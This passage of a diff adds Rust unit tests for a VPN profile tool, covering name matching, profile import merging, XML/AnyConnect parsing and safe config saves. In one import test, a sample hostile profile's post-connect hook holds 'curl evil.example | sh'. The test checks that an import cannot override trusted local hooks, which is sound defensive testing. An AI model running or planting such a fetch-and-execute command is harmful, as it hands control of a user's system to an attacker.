+            ProfileMatch::Ambiguous(profiles) => profiles.iter().map(|p| p.name.as_str()).collect(),
+            other => panic!("expected an ambiguous match, got {:?}", other),
+        }
+    }
+
+    #[test]
+    fn profiles_resolve_by_unique_substring() {
+        let profiles = [
+            named("Office Berlin", None),
+            named("Office Munich", None),
+            named("Home", Some("house")),
+        ];
+        assert_eq!(
+            found(match_profile(&profiles, "munich")),
+            Some("Office Munich")
+        );
+        assert_eq!(found(match_profile(&profiles, "ous")), Some("Home"));
+        assert_eq!(
+            ambiguous(match_profile(&profiles, "office")),
+            vec!["Office Berlin", "Office Munich"]
+        );
+        assert!(matches!(
+            match_profile(&profiles, "Paris"),
+            ProfileMatch::NotFound
+        ));
+    }
+
+    #[test]
+    fn exact_names_and_aliases_win_over_partial_matches() {
+        let profiles = [
+            named("Dev Box", None),
+            named("Dev", None),
+            named("Staging", Some("dev2")),
+        ];
+        assert_eq!(found(match_profile(&profiles, "Dev")), Some("Dev"));
+        assert_eq!(found(match_profile(&profiles, "dev2")), Some("Staging"));
+    }
+
+    #[test]
+    fn closer_matches_rank_first_regardless_of_case() {
+        let profiles = [
+            named("Production EU", None),
+            named("Prod", None),
+            named("Preprod", Some("pp")),
+        ];
+        // Case-insensitive exact beats the prefix match on "Production EU"
+        // and the substring match on "Preprod"
+        assert_eq!(found(match_profile(&profiles, "PROD")), Some("Prod"));
+        // Prefix beats substring
+        assert_eq!(
+            found(match_profile(&profiles, "produ")),
+            Some("Production EU")
+        );
+        assert_eq!(found(match_profile(&profiles, "PREP")), Some("Preprod"));
+        // Only substrings left: all three qualify, so it is ambiguous
+        assert_eq!(
+            ambiguous(match_profile(&profiles, "ro")),
+            vec!["Production EU", "Prod", "Preprod"]
+        );
+    }
+
+    #[test]
+    fn favorites_are_listed_first_among_ambiguous_matches() {
+        let mut profiles = [named("Lab West", None), named("Lab East", None)];
+        profiles[1].favorite = true;
+        assert_eq!(
+            ambiguous(match_profile(&profiles, "lab")),
+            vec!["Lab East", "Lab West"]
+        );
+    }
+
+    #[test]
+    fn update_import_refreshes_the_endpoint_and_keeps_local_fields() {
+        let mut config = Config::new_empty();
+        config.profiles = vec![VpnProfile {
+            name: "Office".to_string(),
+            gateway_address: "old.example.com".to_string(),
+            tags: vec!["work".to_string()],
+            aliases: Some("o".to_string()),
+            username: Some("alice".to_string()),
+            favorite: true,
+            trust_hooks: true,
+            post_connect_cmd: Some("flush-dns".to_string()),
+            ..Default::default()
+        }];
+        let imported = vec![
+            VpnProfile {
+                name: "Office".to_string(),
+                gateway_address: "new.example.com".to_string(),
+                port: Some(8443),
+                protocol: Protocol::Sstp,
+                username: Some("mallory".to_string()),
+                post_connect_cmd: Some("curl evil.example | sh".to_string()),
+                ..Default::default()
+            },
+            VpnProfile {
+                name: "Lab".to_string(),
+                gateway_address: "lab.example.com".to_string(),
+                trust_hooks: true,
+                ..Default::default()
+            },
+        ];
+
+        let summary = config.merge_imported(imported, true);
+        assert_eq!((summary.added, summary.updated, summary.skipped), (1, 1, 0));
+        let fields: Vec<&str> = summary.changes.iter().map(|c| c.field).collect();
+        assert_eq!(fields, vec!["gateway", "port", "protocol"]);
+
+        let office = &config.profiles[0];
+        assert_eq!(office.gateway_address, "new.example.com");
+        assert_eq!(office.port, Some(8443));
+        assert_eq!(office.protocol, Protocol::Sstp);
+        assert_eq!(office.tags, vec!["work"]);
+        assert_eq!(office.aliases.as_deref(), Some("o"));
+        assert_eq!(office.username.as_deref(), Some("alice"));
+        assert!(office.favorite);
+        assert!(office.trust_hooks);
+        assert_eq!(office.post_connect_cmd.as_deref(), Some("flush-dns"));
+        assert!(!config.profiles[1].trust_hooks);
+
+        // Without --update known profiles are left alone
+        let again = vec![VpnProfile {
+            name: "Office".to_string(),
+            gateway_address: "newer.example.com".to_string(),
+            ..Default::default()
+        }];
+        let summary = config.merge_imported(again, false);
+        assert_eq!(summary.skipped, 1);
+        assert_eq!(config.profiles[0].gateway_address, "new.example.com");
+    }
+
+    #[test]
+    fn xml_text_decodes_entities_and_cdata() {
+        assert_eq!(decode_xml_text("R&amp;D &#38; Ops &#x41;"), "R&D & Ops A");
+        assert_eq!(decode_xml_text("<![CDATA[a < b & c]]>"), "a < b & c");
+        // CDATA content is kept verbatim, entities around it are decoded
+        assert_eq!(
+            decode_xml_text(" x &lt; <![CDATA[&amp;]]> y "),
+            "x < &amp; y"
+        );
+    }
+
+    #[test]
+    fn xml_import_decodes_names_and_servers() {
+        let namespaced = "<root><ns:VpnProfile>\
+            <ns:Name>R&amp;D <![CDATA[<Lab>]]></ns:Name>\
+            <ns:Server>vpn&#46;example.com</ns:Server>\
+            </ns:VpnProfile></root>";
+        let profiles = Config::import_from_xml(namespaced).unwrap();
+        assert_eq!(profiles[0].name, "R&D <Lab>");
+        assert_eq!(profiles[0].gateway_address, "vpn.example.com");
+
+        let settings = "<VpnSettings><VpnProfile>\
+            <Name>R&amp;D</Name><Server>vpn.example.com</Server>\
+            </VpnProfile></VpnSettings>";
+        let profiles = Config::import_from_xml(settings).unwrap();
+        assert_eq!(profiles[0].name, "R&D");
+    }
+
+    #[test]
+    fn anyconnect_profile_entries_become_profiles() {
+        let xml = r#"<?xml version="1.0" encoding="UTF-8"?>
+<AnyConnectProfile xmlns="http://schemas.xmlsoap.org/encoding/">
+  <ClientInitialization>
+    <UseStartBeforeLogon UserControllable="true">false</UseStartBeforeLogon>
+  </ClientInitialization>
+  <ServerList>
+    <HostEntry>
+      <HostName>Office</HostName>
+      <HostAddress>vpn.example.com</HostAddress>
+    </HostEntry>
+    <HostEntry>
+      <HostName>R&amp;D Lab</HostName>
+      <HostAddress>lab.example.com:8443</HostAddress>
+    </HostEntry>
+    <HostEntry>
+      <HostName>No address</HostName>
+    </HostEntry>
+  </ServerList>
+</AnyConnectProfile>"#;
+        let profiles = Config::import_from_xml(xml).unwrap();
+        assert_eq!(profiles.len(), 2);
+        assert_eq!(profiles[0].name, "Office");
+        assert_eq!(profiles[0].gateway_address, "vpn.example.com");
+        assert_eq!(profiles[0].port, None);
+        assert_eq!(profiles[1].name, "R&D Lab");
+        assert_eq!(profiles[1].gateway_address, "lab.example.com");
+        assert_eq!(profiles[1].port, Some(8443));
+        assert!(profiles.iter().all(|p| p.protocol == Protocol::AnyConnect));
+
+        let empty = "<AnyConnectProfile><ServerList/></AnyConnectProfile>";
+        assert!(Config::import_from_xml(empty).is_err());
+    }
+
+    #[test]
+    fn xml_export_imports_back_unchanged() {
+        let profile = |name: &str, gateway: &str, port, protocol| VpnProfile {
+            name: name.to_string(),
+            gateway_address: gateway.to_string(),
+            port,
+            protocol,
+            ..Default::default()
+        };
+        let profiles = vec![
+            profile("Office", "vpn.example.com", None, Protocol::IKEv2),
+            profile(
+                "R&D <Lab>",
+                "lab.example.com",
+                Some(8443),
+                Protocol::OpenVpn,
+            ),
+            profile("Home", "fd00::1", Some(51820), Protocol::WireGuard),
+            profile(
+                "Legacy",
+                "10.0.0.1",
+                None,
+                Protocol::Other("PPTP".to_string()),
+            ),
+        ];
+        let fields = |profiles: &[VpnProfile]| {
+            profiles
+                .iter()
+                .map(|p| {
+                    (
+                        p.name.clone(),
+                        p.gateway_address.clone(),
+                        p.port,
+                        p.protocol.clone(),
+                    )
+                })
+                .collect::<Vec<_>>()
+        };
+
+        let xml = export_profiles(&profiles, ExportFormat::Xml).unwrap();
+        let imported = Config::import_from_xml(&xml).unwrap();
+        assert_eq!(fields(&imported), fields(&profiles));
+    }
+
+    /// A save interrupted mid-write leaves `config.toml.tmp` behind; the
+    /// config itself must still load, and the next save must replace it
+    #[cfg(unix)]
+    #[test]
+    fn interrupted_save_keeps_the_config() {
+        let home = std::env::temp_dir().join(format!("remipn-test-{}", std::process::id()));
+        fs::create_dir_all(&home).unwrap();
+        // Only this test touches the config directory
+        unsafe { std::env::set_var("HOME", &home) };
+
+        let mut config = Config::new_empty();
+        config.profiles = vec![gateway("vpn.example.com")];
+        config.save().unwrap();
+
+        let path = Config::config_path().unwrap();
+        let tmp_path = path.with_extension("toml.tmp");
+        fs::write(&tmp_path, "[[profiles]]\nname = \"Half").unwrap();
+
+        let loaded = Config::load().unwrap();
+        assert_eq!(loaded.profiles.len(), 1);
+        assert_eq!(loaded.profiles[0].gateway_address, "vpn.example.com");
+
+        config.profiles[0].gateway_address = "vpn2.example.com".to_string();
+        config.save().unwrap();
+        assert!(!tmp_path.exists());
+        assert_eq!(
+            Config::load().unwrap().profiles[0].gateway_address,
+            "vpn2.example.com"
+        );
+        let backup = fs::read_to_string(path.with_extension("toml.bak")).unwrap();
+        assert!(backup.contains("vpn.example.com"));
+
+        fs::remove_dir_all(&home).unwrap();
+    }
 }